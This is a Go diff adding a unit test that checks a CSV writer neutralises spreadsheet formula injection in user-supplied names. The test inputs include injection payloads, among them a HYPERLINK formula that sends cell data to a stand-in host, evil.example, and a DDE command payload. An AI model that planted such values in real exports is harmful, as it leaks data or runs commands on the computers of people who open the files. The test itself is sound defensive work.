@@ -9,6 +9,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
 )
@@ -244,6 +245,23 @@ func TestWritingIsReadAgain(t *testing.T) {
 	}
 	if _, err := NewWriter(io.Discard, "xml", false); err == nil {
 		t.Error("a format that is none")
+	}
+}
+
+// TestMAIL2_NoNameIsAFormula: people choose their names, and spreadsheets compute a cell that begins like a formula.
+func TestMAIL2_NoNameIsAFormula(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{`=HYPERLINK("https://evil.example/?"&A1,"Ada")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=1+1", "''-1", "＝1+1", "'", "'Ada'", "Ada = 1", ""} {
+		row := Row{Email: "ada@example.com", Name: name, Verified: true}
+		text := written(t, CSV, false, []Row{row})
+		got, bad, err := all(strings.NewReader(text), CSV)
+		if err != nil || bad != nil || len(got) != 1 || got[0].Name != name {
+			t.Errorf("%q came back as %v (%v, %v)", name, got, bad, err)
+		}
+		cell := strings.TrimLeft(strings.Split(text, ",")[7], `"`)
+		if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@＝＋－＠", first) {
+			t.Errorf("%q is a formula to a spreadsheet:\n%s", name, text)
+		}
 	}
 }
 
